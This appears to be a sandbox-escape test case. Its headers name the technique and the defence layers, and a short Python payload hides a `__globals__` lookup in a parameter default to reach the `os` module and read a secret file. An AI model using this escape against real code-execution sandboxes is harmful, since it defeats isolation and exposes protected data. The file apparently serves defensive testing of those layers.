# class: object graph walk
# technique: a forbidden attribute in the default of a parameter
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def get(g=quit.__init__.__globals__):
    return g
g = get()
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
